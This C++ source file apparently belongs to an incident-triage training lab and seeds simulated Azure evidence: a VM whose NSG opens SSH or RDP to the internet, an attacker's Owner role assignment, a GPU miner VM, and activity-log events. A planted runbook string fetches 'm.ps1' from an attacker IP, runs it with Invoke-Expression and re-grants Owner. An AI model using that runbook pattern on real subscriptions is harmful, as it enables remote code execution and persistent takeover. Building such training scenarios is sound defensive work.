// Seeding of the machine side of an incident: the VM an alert names (with its NIC and the
// NIC's NSG), and for Resource Manager alerts what an intruder with a foothold in the
// subscription leaves behind (an Owner role assignment, a persistence runbook, a resource
// nobody asked for), each with its activity-log event.

#include "arm.hpp"
#include "dftriage/alert/resource_id.hpp"
#include "disks.hpp"
#include "resources.hpp"
#include "resources_compute.hpp"
#include "seed.hpp"

namespace dftriage::lab {

namespace {

bool looks_linux(const std::string& name)
{
  const std::string n = lower(name);
  for (const char* part : {"linux", "ubuntu", "lnx", "rhel", "debian"}) {
    if (n.find(part) != std::string::npos) {
      return true;
    }
  }
  return false;
}

// The VM an alert is about: its resource, else the first host entity that is a VM.
std::optional<alert::ResourceId> alert_vm(const alert::Alert& a)
{
  std::vector<std::string> candidates = {a.resource_id};
  for (const auto& host : a.entities.hosts) {
    candidates.push_back(host.resource_id);
  }
  for (const auto& candidate : candidates) {
    auto id = alert::parse_resource_id(candidate);
    if (id && id->type() == lower(k_vm_type) && !id->resource_group.empty()) {
      return id;
    }
  }
  return std::nullopt;
}

void seed_vm(State& state, const alert::ResourceId& parsed, const std::string& location,
             const std::string& created)
{
  const std::string group = group_id(lower(parsed.subscription_id), parsed.resource_group);
  const std::string name = parsed.name();
  const std::string vm_id = group + "/providers/Microsoft.Compute/virtualMachines/" + name;
  if (find_resource(state, vm_id)) {
    return;
  }
  ensure_group(state, lower(parsed.subscription_id), parsed.resource_group, location);
  const bool linux_vm = looks_linux(name);
  // The NSG the VM came with: remote administration open to the internet, the usual
  // finding on a machine that gets compromised.
  const std::string nsg_id =
      group + "/providers/Microsoft.Network/networkSecurityGroups/" + name + "-nsg";
  const Json rule{{"name", linux_vm ? "SSH" : "RDP"},
                  {"properties",
                   {{"priority", 300},
                    {"direction", "Inbound"},
                    {"access", "Allow"},
                    {"protocol", "Tcp"},
                    {"sourceAddressPrefix", "*"},
                    {"sourcePortRange", "*"},
                    {"destinationAddressPrefix", "*"},
                    {"destinationPortRange", linux_vm ? "22" : "3389"}}}};
  Json nsg = make_nsg(state, nsg_id, location, Json::array({rule}));
  const std::string nic_id =
      group + "/providers/Microsoft.Network/networkInterfaces/" + name + "-nic";
  Json nic = make_nic(state, nic_id, location, "10.0.0.4");
  nic["properties"]["networkSecurityGroup"] = {{"id", nsg_id}};
  put_seeded_resource(state, std::move(nsg), created);
  put_seeded_resource(state, std::move(nic), created);
  Json vm = make_vm(state, vm_id, location, linux_vm ? "Linux" : "Windows", {nic_id});
  vm["properties"]["timeCreated"] = created;
  vm["tags"]["owner"] = "web-platform@lab.localhost";
  put_vm(state, std::move(vm), linux_vm ? "Linux" : "Windows");
}

// An activity-log event of `caller` writing `resource_id` with `operation`.
Json event(const State& state, const std::string& caller, const std::string& object_id,
           const std::string& ip, const std::string& when, const std::string& resource_id,
           const std::string& operation, const std::string& localized)
{
  const auto id = alert::parse_resource_id(resource_id);
  const std::string correlation =
      stable_guid("correlation/" + resource_id + "/" + operation + "/" + when);
  const std::string provider = operation.substr(0, operation.find('/'));
  return Json{{"caller", caller},
              {"channels", "Operation"},
              {"category", {{"value", "Administrative"}, {"localizedValue", "Administrative"}}},
              {"correlationId", correlation},
              {"eventDataId", stable_guid("event-data/" + correlation)},
              {"eventName", {{"value", "EndRequest"}, {"localizedValue", "End request"}}},
              {"eventTimestamp", when},
              {"submissionTimestamp", shifted(when, 15)},
              {"level", "Informational"},
              {"operationName", {{"value", operation}, {"localizedValue", localized}}},
              {"resourceProviderName", {{"value", provider}, {"localizedValue", provider}}},
              {"resourceGroupName", id ? id->resource_group : ""},
              {"resourceId", resource_id},
              {"status", {{"value", "Succeeded"}, {"localizedValue", "Succeeded"}}},
              {"subscriptionId", id ? lower(id->subscription_id) : ""},
              {"tenantId", state.config.tenant_id},
              {"httpRequest", {{"clientIpAddress", ip}, {"method", "PUT"}}},
              {"claims",
               {{"http://schemas.microsoft.com/identity/claims/objectidentifier", object_id},
                {"ipaddr", ip}}}};
}

// What an intruder holding a Resource Manager foothold leaves in `subscription`: an Owner
// role assignment for itself, an Automation account runbook that re-grants it, and a VM
// nobody ordered (the usual crypto-miner), each logged as the attacker's doing.
void seed_foothold(State& state, const alert::Alert& a, const std::string& subscription,
                   const std::string& location, const std::string& attacker, const std::string& upn,
                   const std::string& ip)
{
  const std::string group = "rg-automation";
  ensure_group(state, subscription, group, location);
  const std::string scope = "/subscriptions/" + subscription;
  const std::string assignment_name = stable_guid("owner/" + scope + "/" + lower(attacker));
  if (find_resource(state, scope + "/providers/Microsoft.Authorization/roleAssignments/" +
                               assignment_name)) {
    return;
  }
  // Made by the attacker at the time its activity-log event says.
  const std::string granted = shifted(a.start_time, 2 * 60);
  Json owner = make_role_assignment(state, scope, assignment_name, "Owner", attacker,
                                    state.principal_type(attacker));
  for (const char* key : {"createdOn", "updatedOn"}) {
    owner["properties"][key] = granted;
  }
  for (const char* key : {"createdBy", "updatedBy"}) {
    owner["properties"][key] = attacker;
  }
  const Json& assignment = put_resource(state, std::move(owner));
  state.activity_log.push_back(event(state, upn, attacker, ip, granted, assignment["id"],
                                     "Microsoft.Authorization/roleAssignments/write",
                                     "Create role assignment"));

  const std::string account_id = group_id(subscription, group) +
                                 "/providers/Microsoft.Automation/automationAccounts/aa-operations";
  // The team's own account, long before the attack.
  Json account = make_automation_account(state, account_id, location);
  const std::string account_made = shifted(a.start_time, -400 * 86400);
  account["properties"]["creationTime"] = account_made;
  account["properties"]["lastModifiedTime"] = account_made;
  put_seeded_resource(state, std::move(account), account_made);
  Json nightly = make_runbook(state, account_id, "Stop-DevVMs", location,
                              Json{{"description", "Stops the VMs tagged env=dev every night."},
                                   {"lastModifiedBy", "ops-admin@lab.localhost"},
                                   {"creationTime", shifted(a.start_time, -150 * 86400)},
                                   {"lastModifiedTime", shifted(a.start_time, -150 * 86400)}});
  state.runbook_contents[lower(nightly["id"].get<std::string>())] =
      "Connect-AzAccount -Identity | Out-Null\n"
      "Get-AzVM -Status | Where-Object { $_.Tags['env'] -eq 'dev' } |\n"
      "  ForEach-Object { Stop-AzVM -Name $_.Name -ResourceGroupName $_.ResourceGroupName -Force "
      "}\n";
  put_resource(state, std::move(nightly));
  const std::string planted_when = shifted(a.start_time, 5 * 60);
  Json planted = make_runbook(state, account_id, "Update-ModuleCache", location,
                              Json{{"lastModifiedBy", upn},
                                   {"creationTime", planted_when},
                                   {"lastModifiedTime", planted_when}});
  // The script names the attacker's object ID; the IP only when it is an address (the
  // alert is attacker-written, this text is shown to the responder).
  const bool ip_ok =
      !ip.empty() && ip.find_first_not_of("0123456789abcdefABCDEF.:") == std::string::npos;
  state.runbook_contents[lower(planted["id"].get<std::string>())] =
      "Connect-AzAccount -Identity | Out-Null\n"
      "$m = Invoke-WebRequest -UseBasicParsing -Uri 'http://" +
      (ip_ok ? ip : std::string("203.0.113.66")) +
      "/m.ps1'\n"
      "Invoke-Expression $m.Content\n"
      "New-AzRoleAssignment -ObjectId '" +
      attacker + "' -RoleDefinitionName Owner -Scope '" + scope +
      "' -ErrorAction SilentlyContinue\n";
  state.activity_log.push_back(event(state, upn, attacker, ip, planted_when, planted["id"],
                                     "Microsoft.Automation/automationAccounts/runbooks/write",
                                     "Create or Update an Azure Automation Runbook"));
  put_resource(state, std::move(planted));

  const std::string miner_group = "rg-batch-tmp";
  ensure_group(state, subscription, miner_group, location);
  const std::string miner = group_id(subscription, miner_group) +
                            "/providers/Microsoft.Compute/virtualMachines/gpu-node-7";
  const std::string miner_nic = group_id(subscription, miner_group) +
                                "/providers/Microsoft.Network/networkInterfaces/gpu-node-7-nic";
  put_seeded_resource(state, make_nic(state, miner_nic, location, "10.1.0.4"),
                      shifted(a.start_time, 8 * 60)); // with the VM
  Json vm = make_vm(state, miner, location, "Linux", {miner_nic});
  vm["properties"]["hardwareProfile"]["vmSize"] = "Standard_NC24ads_A100_v4";
  vm["properties"]["timeCreated"] = shifted(a.start_time, 8 * 60);
  put_vm(state, std::move(vm), "Linux");
  state.activity_log.push_back(event(state, upn, attacker, ip, shifted(a.start_time, 8 * 60), miner,
                                     "Microsoft.Compute/virtualMachines/write",
                                     "Create or Update Virtual Machine"));
}

} // namespace

void seed_compute_incident(State& state, const alert::Alert& a, const std::string& attacker,
                           const std::string& upn, const std::string& ip)
{
  const std::string location = a.alert_location.empty() ? "westeurope" : a.alert_location;
  if (const auto vm = alert_vm(a)) {
    seed_vm(state, *vm, location, shifted(a.start_time, -120 * 86400));
  }
  if (a.family == alert::Family::resourcemanager) {
    const std::string subscription =
        lower(a.subscription_id.empty() ? state.config.subscription_id : a.subscription_id);
    seed_foothold(state, a, subscription, location, attacker, upn, ip);
  }
}

void adopt_compute_resource(State& state, const Json& resource)
{
  const auto id = alert::parse_resource_id(resource.value("id", ""));
  if (!id || id->type() != lower(k_vm_type)) {
    return;
  }
  const Json* os = nullptr;
  if (resource.contains("properties") && resource["properties"].is_object()) {
    const Json& p = resource["properties"];
    if (p.contains("storageProfile") && p["storageProfile"].is_object() &&
        p["storageProfile"].contains("osDisk") && p["storageProfile"]["osDisk"].is_object() &&
        p["storageProfile"]["osDisk"].contains("osType")) {
      os = &p["storageProfile"]["osDisk"]["osType"];
    }
  }
  state.vms[lower(resource["id"].get<std::string>())].os =
      os && os->is_string() && os->get<std::string>() == "Linux" ? "Linux" : "Windows";
  // A managed OS disk the scenario names but does not state is made beside the VM.
  ensure_os_disk(state, resource);
}

} // namespace dftriage::lab
